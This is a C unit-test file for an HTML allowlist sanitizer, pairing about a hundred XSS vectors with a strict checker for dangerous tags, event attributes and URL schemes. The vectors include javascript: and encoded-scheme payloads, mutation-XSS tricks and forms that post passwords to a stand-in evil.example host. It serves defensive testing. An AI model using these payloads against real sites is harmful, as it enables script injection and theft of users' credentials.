/*
 * test_sanitize.c — the allowlist sanitizer: an XSS corpus checked by a strict
 * scanner of the output's tag syntax, plus the form, link, attribute and bounds
 * rules of render.h.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <ctype.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "render.h"

static const sanitize_opts_t opts = {"mail", "TOKEN123"};

static char *san(const char *html)
{
    size_t n;
    char *out = sanitize_html(html, strlen(html), &opts, &n);
    assert_non_null(out);
    assert_int_equal(strlen(out), n);
    return out;
}

static bool contains_ci(const char *hay, const char *needle)
{
    size_t n = strlen(needle);
    for (; *hay; hay++)
        if (strncasecmp(hay, needle, n) == 0)
            return true;
    return false;
}

/* Exact-output check. */
static void expect(const char *in, const char *want)
{
    char *out = san(in);
    if (strcmp(out, want) != 0)
        fail_msg("sanitize(%s)\n  got:  %s\n  want: %s", in, out, want);
    free(out);
}

static const char *const ok_tags[] = {
    "a", "p", "div", "span", "section", "article", "header", "footer", "nav", "main", "aside", "address", "h1",
    "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "colgroup", "col",
    "thead", "tbody", "tfoot", "tr", "th", "td", "strong", "em", "b", "i", "u", "s", "del", "ins", "mark",
    "small", "sub", "sup", "code", "pre", "kbd", "samp", "var", "cite", "dfn", "abbr", "q", "time", "data",
    "bdi", "bdo", "ruby", "rt", "rp", "blockquote", "hr", "br", "wbr", "img", "details", "summary", "figure",
    "figcaption", "form", "input", "button", "select", "option", "optgroup", "textarea", "label", "fieldset",
    "legend", "progress", "meter", NULL,
};
static const char *const ok_attrs[] = {
    "class", "title", "lang", "dir", "href", "rel", "src", "alt", "width", "height", "action", "method", "enctype",
    "autocomplete", "novalidate", "type", "name", "value", "placeholder", "checked", "required", "min", "max",
    "step", "minlength", "maxlength", "size", "disabled", "readonly", "multiple", "pattern", "accept", "selected",
    "label", "rows", "cols", "for", "colspan", "rowspan", "scope", "span", "start", "reversed", "datetime", "open",
    "low", "high", "optimum", "align", NULL,
};

static bool in_list(const char *const *list, const char *s, size_t n)
{
    for (; *list; list++)
        if (strlen(*list) == n && strncmp(*list, s, n) == 0)
            return true;
    return false;
}

/*
 * Reads the output as a browser's tokenizer would (the sanitizer always quotes
 * attribute values with '"' and escapes '<' in text) and fails on anything outside
 * the allowlist: every '<' must open a known tag; attribute names must be known,
 * never on*, style, id, target, formaction, srcdoc; URL values must not carry a
 * dangerous scheme.
 */
static void check_safe(const char *vector, const char *out)
{
    if (contains_ci(out, "<script") || contains_ci(out, "<iframe") || contains_ci(out, "<object") ||
        contains_ci(out, "<embed") || contains_ci(out, "<base") || contains_ci(out, "<meta") ||
        contains_ci(out, "<link") || contains_ci(out, "<svg") || contains_ci(out, "<math") ||
        contains_ci(out, "<style") || contains_ci(out, "<frame") || contains_ci(out, "<template"))
        fail_msg("dangerous tag for %s: %s", vector, out);
    const char *p = out;
    while ((p = strchr(p, '<')) != NULL) {
        p++;
        if (*p == '/')
            p++;
        const char *name = p;
        while (islower((unsigned char)*p) || isdigit((unsigned char)*p))
            p++;
        if (!in_list(ok_tags, name, (size_t)(p - name)))
            fail_msg("tag '%.*s' not allowed for %s: %s", (int)(p - name), name, vector, out);
        for (;;) {
            if (*p == '>')
                break;
            if (*p != ' ')
                fail_msg("bad tag syntax at '%.20s' for %s: %s", p, vector, out);
            p++;
            const char *an = p;
            while (islower((unsigned char)*p) || *p == '-')
                p++;
            size_t al = (size_t)(p - an);
            if (al >= 2 && strncmp(an, "on", 2) == 0)
                fail_msg("event attribute for %s: %s", vector, out);
            if (!in_list(ok_attrs, an, al))
                fail_msg("attribute '%.*s' not allowed for %s: %s", (int)al, an, vector, out);
            if (*p == '=') {
                if (p[1] != '"')
                    fail_msg("unquoted value for %s: %s", vector, out);
                const char *v = p + 2, *end = strchr(v, '"');
                assert_non_null(end);
                char *val = strndup(v, (size_t)(end - v));
                if ((al == 4 && strncmp(an, "href", 4) == 0) || (al == 3 && strncmp(an, "src", 3) == 0) ||
                    (al == 6 && strncmp(an, "action", 6) == 0)) {
                    if (contains_ci(val, "javascript:") || contains_ci(val, "vbscript:") || contains_ci(val, "data:") ||
                        strncmp(val, "//", 2) == 0 || val[0] == '\\' || strchr(val, '\t') || strchr(val, '\n'))
                        fail_msg("dangerous URL '%s' for %s: %s", val, vector, out);
                    if (al == 3 && strstr(val, "://") != NULL)
                        fail_msg("external image '%s' for %s", val, vector);
                }
                free(val);
                p = end + 1;
            }
        }
    }
}

/* The corpus: OWASP-style vectors, mutation XSS, and figment's own form rules. */
static const char *const vectors[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<img src=\"jav\tascript:alert('XSS');\">",
    "<img src=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=\"jav&#x0A;ascript:alert('XSS');\">",
    "<img src=\" &#14;  javascript:alert('XSS');\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img src=\"//evil.example/pixel.gif\">",
    "<img src=\"https://tracker.example/p.gif\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"java&#09;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\"%6Aavascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"http:evil\">x</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_blank\">x</a>",
    "<a href=\"x\" onmouseover=alert(1)>x</a>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p id=\"__proto__\" name=\"getElementById\">clobber</p>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"x\"></applet>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=\"import\" href=\"http://evil.example/x.html\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<form><input type=submit formaction=\"https://evil.example\" formmethod=post formtarget=_top></form>",
    "<form action=\"https://evil.example/steal\" method=post><input name=pw></form>",
    "<form action=\"/other/transfer\" method=post><input name=to></form>",
    "<form action=\"//evil.example/\"></form>",
    "<form action=\"/mail/../admin/\" method=post></form>",
    "<form action=\"/mail/%2e%2e/admin/\" method=post></form>",
    "<form method=post><form action=\"https://evil.example\"><input name=x></form></form>",
    "<input type=image src=\"https://evil.example/x.png\">",
    "<input type=hidden name=_csrf value=attacker>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<frameset onload=alert(1)>",
    "<dialog open><img src=x onerror=alert(1)></dialog>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<div/onclick='alert(1)'>x</div>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<<script>alert(1);//<</script>",
    "<p>a\0b<scr\0ipt>alert(1)</script></p>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head><body>x</body></html>",
    "<a href=\"https://ok.example\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">x</a>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<div><p>unclosed <b>tags <i>everywhere",
    "\xff\xfe<scr\xc0ipt>alert(1)</script>\xed\xa0\x80",
};

static void test_xss_corpus(void **state)
{
    (void)state;
    size_t n = sizeof(vectors) / sizeof(vectors[0]);
    assert_true(n >= 60);
    for (size_t i = 0; i < n; i++) {
        char in[4096];
        snprintf(in, sizeof(in), "<p>ok</p>%s", vectors[i]);
        char *out = san(in);
        check_safe(vectors[i], out);
        if (strncmp(out, "<p>ok</p>", 9) != 0)
            fail_msg("safe content lost for %s: %s", vectors[i], out);
        free(out);
    }
}

static void test_idempotent(void **state)
{
    (void)state;
    static const char *const docs[] = {
        "<h1>Title</h1><p>a &amp; b &lt; c</p><ul><li>x<li>y</ul>",
        "<table><tr><td colspan=2>a<td>b</table>",
        "<form method=post action=\"/mail/x\"><input name=q><select name=s><option value=1 selected>1</select>"
        "<textarea name=t>\n\nhello</textarea></form>",
        "<pre>\n\ncode</pre><p>para<div>block</div>",
        "<a href=\"https://x.example/\">ext</a> <a href=\"/mail/\">int</a>",
        "<p>x<table>foster</table></p>",
    };
    size_t n = sizeof(vectors) / sizeof(vectors[0]);
    for (size_t i = 0; i < n + sizeof(docs) / sizeof(docs[0]); i++) {
        const char *in = i < n ? vectors[i] : docs[i - n];
        char *once = san(in), *twice = san(once);
        if (strcmp(once, twice) != 0)
            fail_msg("not idempotent for %s:\n  once:  %s\n  twice: %s", in, once, twice);
        free(once);
        free(twice);
    }
}

static void test_elements(void **state)
{
    (void)state;
    expect("<p>ok</p><script>alert(1)</script><p>after</p>", "<p>ok</p><p>after</p>");
    expect("<my-widget><b>kept</b></my-widget>", "<b>kept</b>");
    expect("<font color=red>x</font><center>y</center>", "xy");
    expect("<iframe>inner text</iframe>z", "z");
    expect("<svg><text>t</text></svg><math><mi>m</mi></math>z", "z");
    expect("a<!-- comment -->b", "ab");
    expect("<br><hr><wbr><img src=a.png alt=x><input name=n>",
           "<br><hr><wbr><img src=\"a.png\" alt=\"x\"><input name=\"n\">");
    expect("<br/>x</br>", "<br>x<br>");
    expect("<textarea name=t><b>hi</b> & </textarea>", "<textarea name=\"t\">&lt;b&gt;hi&lt;/b&gt; &amp; </textarea>");
    expect("<pre>\n\nx</pre>", "<pre>\n\nx</pre>");
    expect("<p>\"quotes\" 'single'</p>", "<p>&quot;quotes&quot; &#39;single&#39;</p>");
    expect("<table><tr><td>1</td></tr></table>", "<table><tbody><tr><td>1</td></tr></tbody></table>");
    expect("<title>T</title><meta charset=utf-8>body", "body");
    expect("<frameset><p>still here</p>", "<p>still here</p>");
    expect("", "");
}

static void test_attributes(void **state)
{
    (void)state;
    expect("<p id=x class=\"a b\" style=\"color:red\" title=t lang=en dir=RTL onclick=x>p</p>",
           "<p class=\"a b\" title=\"t\" lang=\"en\" dir=\"rtl\">p</p>");
    expect("<p dir=sideways>p</p>", "<p>p</p>");
    expect("<td colspan=3 rowspan=500>x</td>", "x"); /* a td outside a table is not a cell */
    expect("<table><tr><td colspan=\"3\" rowspan=\"0\">x</td><th scope=ROW colspan=1x>y</th></tr></table>",
           "<table><tbody><tr><td colspan=\"3\">x</td><th scope=\"row\">y</th></tr></tbody></table>");
    expect("<table><tr><th align=CENTER>a</th><td align=middle>b</td></tr></table>",
           "<table><tbody><tr><th align=\"center\">a</th><td>b</td></tr></tbody></table>");
    expect("<ol start=-2 type=A reversed><li value=007>x</li></ol>",
           "<ol start=\"-2\" type=\"A\" reversed><li value=\"7\">x</li></ol>");
    expect("<ol type=Z><li value=x>x</li></ol>", "<ol><li>x</li></ol>");
    expect("<img src=a.png width=10 height=abc srcset=\"b.png 2x\">", "<img src=\"a.png\" width=\"10\">");
    expect("<input type=TEXT name=q checked=checked disabled pattern=\"[a-z]+\" formaction=/x>",
           "<input type=\"text\" name=\"q\" checked disabled pattern=\"[a-z]+\">");
    expect("<input type=foo name=q>", "<input name=\"q\">");
    expect("<button type=RESET name=b value=v onclick=x>b</button><button type=menu>m</button>",
           "<button type=\"reset\" name=\"b\" value=\"v\">b</button><button>m</button>");
    expect("<details open><summary>s</summary>d</details>", "<details open><summary>s</summary>d</details>");
    expect("<time datetime=\"2024-01-01\">jan</time>", "<time datetime=\"2024-01-01\">jan</time>");
    expect("<label for=q>L</label>", "<label for=\"q\">L</label>");
    expect("<p title='a\"b&lt;'>p</p>", "<p title=\"a&quot;b&lt;\">p</p>");
}

static void test_links(void **state)
{
    (void)state;
    expect("<a href=\"https://ex.example/a?b=1&c=2\" rel=opener target=_blank>x</a>",
           "<a href=\"https://ex.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\">x</a>");
    expect("<a href=\"HTTP://EX.EXAMPLE/\">x</a>", "<a href=\"HTTP://EX.EXAMPLE/\" rel=\"noopener noreferrer nofollow\">x</a>");
    expect("<a href=\"/other/page\" rel=nofollow>x</a>", "<a href=\"/other/page\">x</a>");
    expect("<a href=\"message/12?x=1#top\">x</a>", "<a href=\"message/12?x=1#top\">x</a>");
    expect("<a href=\"?q=1\">x</a><a href=\"#f\">y</a>", "<a href=\"?q=1\">x</a><a href=\"#f\">y</a>");
    expect("<a href=\" \t/mail/\nx \">x</a>", "<a href=\"/mail/x\">x</a>");
    expect("<a href=\"java\tscript:alert(1)\">x</a>", "<a>x</a>");
    expect("<a href=\"mailto:a@b.example\">x</a>", "<a>x</a>");
    expect("<a href=\"//evil.example\">x</a><a href=\"\\\\evil\">y</a><a href=\"/\\evil\">z</a>",
           "<a>x</a><a>y</a><a>z</a>");
    expect("<a href=\"http:evil\">x</a><a href=\"https:///evil\">y</a>", "<a>x</a><a>y</a>");
    expect("<img src=\"/static/a.png\"><img src=\"http://x.example/a.png\"><img src=\"//x/a\">",
           "<img src=\"/static/a.png\"><img><img>");
}

static void test_forms(void **state)
{
    (void)state;
    /* CSRF token: POST forms only, first child, escaped; author _csrf dropped */
    expect("<form method=POST action=\"/mail/send\"><input type=hidden name=_csrf value=evil><input name=to></form>",
           "<form method=\"post\" action=\"/mail/send\"><input type=\"hidden\" name=\"_csrf\" value=\"TOKEN123\">"
           "<input name=\"to\"></form>");
    expect("<form method=get action=\"/mail/search\"><input name=q></form>",
           "<form method=\"get\" action=\"/mail/search\"><input name=\"q\"></form>");
    expect("<form><input name=q></form>", "<form><input name=\"q\"></form>");
    expect("<form method=dialog><button name=_CSRF>b</button><select name=_csrf></select></form>",
           "<form><button>b</button><select></select></form>");
    /* actions */
    expect("<form action=\"/mail\"></form>", "<form action=\"/mail\"></form>");
    expect("<form action=\"/mail?x=1\"></form>", "<form action=\"/mail?x=1\"></form>");
    expect("<form action=\"reply\"></form><form action=\"./a/b?c\"></form>",
           "<form action=\"reply\"></form><form action=\"./a/b?c\"></form>");
    expect("<form action=\"/mailbox/\"></form>", "<form></form>");
    expect("<form action=\"/other/\"></form>", "<form></form>");
    expect("<form action=\"https://evil.example/\"></form>", "<form></form>");
    expect("<form action=\"../x\"></form>", "<form></form>");
    expect("<form action=\"a/.%2E/x\"></form>", "<form></form>");
    expect("<form action=\"/mail/..\"></form>", "<form></form>");
    expect("<form action=\"/mail\\..\\x\"></form>", "<form></form>");
    expect("<form action=\"javascript:alert(1)\"></form>", "<form></form>");
    expect("<form action=\"\"></form>", "<form></form>");
    expect("<form action=\"/mail/x?a=..\"></form>", "<form action=\"/mail/x?a=..\"></form>");
    expect("<form enctype=multipart/form-data></form><form enctype=text/plain></form>",
           "<form enctype=\"multipart/form-data\"></form><form></form>");
    /* input type=image is refused entirely */
    expect("<form><input type=image src=a.png><input type=submit></form>",
           "<form><input type=\"submit\"></form>");

    /* nested forms: the inner one is unwrapped (built via a table so the parser keeps it) */
    char *out = san("<form method=post><table><tr><td><form method=post action=\"/mail/x\"><input name=a>"
                    "</form></td></tr></table></form>");
    const char *first = strstr(out, "<form");
    assert_non_null(first);
    assert_null(strstr(first + 1, "<form"));
    free(out);

    /* no token configured: no hidden input */
    sanitize_opts_t none = {"mail", NULL};
    const char *in = "<form method=post><input name=a></form>";
    out = sanitize_html(in, strlen(in), &none, NULL);
    assert_string_equal(out, "<form method=\"post\"><input name=\"a\"></form>");
    free(out);
    out = sanitize_html(in, strlen(in), NULL, NULL);
    assert_string_equal(out, "<form method=\"post\"><input name=\"a\"></form>");
    free(out);

    /* the token is escaped */
    sanitize_opts_t odd = {"mail", "a\"b<c"};
    out = sanitize_html(in, strlen(in), &odd, NULL);
    assert_non_null(strstr(out, "value=\"a&quot;b&lt;c\""));
    free(out);
}

static void test_deep_nesting(void **state)
{
    (void)state;
    size_t depth = 3000; /* deep enough to flatten, shallow enough for the time budget under ASan */
    char *in = malloc(depth * 5 + 16);
    for (size_t i = 0; i < depth; i++)
        memcpy(in + i * 5, "<div>", 5);
    strcpy(in + depth * 5, "deep");
    size_t n;
    char *out = sanitize_html(in, strlen(in), &opts, &n);
    size_t opens = 0;
    for (const char *p = out; (p = strstr(p, "<div>")) != NULL; p++)
        opens++;
    assert_int_equal(opens, 256);
    assert_non_null(strstr(out, "deep"));
    free(out);
    free(in);
}

/* Inputs that make gumbo's work explode hit the budget and become a notice. */
static void test_budget(void **state)
{
    (void)state;
    fig_buf_t in = FIG_BUF_INIT;
    fig_buf_append_str(&in, "<div>");
    for (int i = 0; i < 3000; i++)
        fig_buf_appendf(&in, "<b a=%d>", i);
    fig_buf_append_str(&in, "</div>");
    for (int i = 0; i < 3000; i++)
        fig_buf_append_str(&in, "<p>x</p>");
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    size_t n;
    char *out = sanitize_html(in.data, in.len, &opts, &n);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    assert_true(n < 1000);
    assert_non_null(strstr(out, "too large or too deeply nested"));
    assert_true(t1.tv_sec - t0.tv_sec < 10);
    free(out);
    fig_buf_free(&in);
}

static bool valid_utf8(const unsigned char *s)
{
    while (*s) {
        int n = *s < 0x80 ? 0 : (*s & 0xE0) == 0xC0 ? 1 : (*s & 0xF0) == 0xE0 ? 2 : (*s & 0xF8) == 0xF0 ? 3 : -1;
        if (n < 0)
            return false;
        s++;
        for (int i = 0; i < n; i++, s++)
            if ((*s & 0xC0) != 0x80)
                return false;
    }
    return true;
}

static void test_bad_bytes(void **state)
{
    (void)state;
    static const char in[] = "<p>a\0b\xff\xc3(\xe2\x82</p><a href=\"/x\0y\">l</a>";
    size_t n;
    char *out = sanitize_html(in, sizeof(in) - 1, &opts, &n);
    assert_int_equal(strlen(out), n);
    assert_true(valid_utf8((const unsigned char *)out));
    assert_non_null(strstr(out, "<p>a"));
    free(out);
    /* references to controls, CR, noncharacters, and overflowing numbers */
    out = san("<p>a&#14;b&#13;c&#xFFFE;d&#1111111111111111111111;e</p>");
    assert_true(valid_utf8((const unsigned char *)out));
    assert_string_equal(out, "<p>a\xEF\xBF\xBD" "b&#13;c\xEF\xBF\xBD" "d\xEF\xBF\xBD" "e</p>");
    free(out);
    out = sanitize_html(NULL, 0, &opts, &n);
    assert_string_equal(out, "");
    free(out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xss_corpus), cmocka_unit_test(test_idempotent), cmocka_unit_test(test_elements),
        cmocka_unit_test(test_attributes), cmocka_unit_test(test_links),      cmocka_unit_test(test_forms),
        cmocka_unit_test(test_deep_nesting), cmocka_unit_test(test_budget),   cmocka_unit_test(test_bad_bytes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
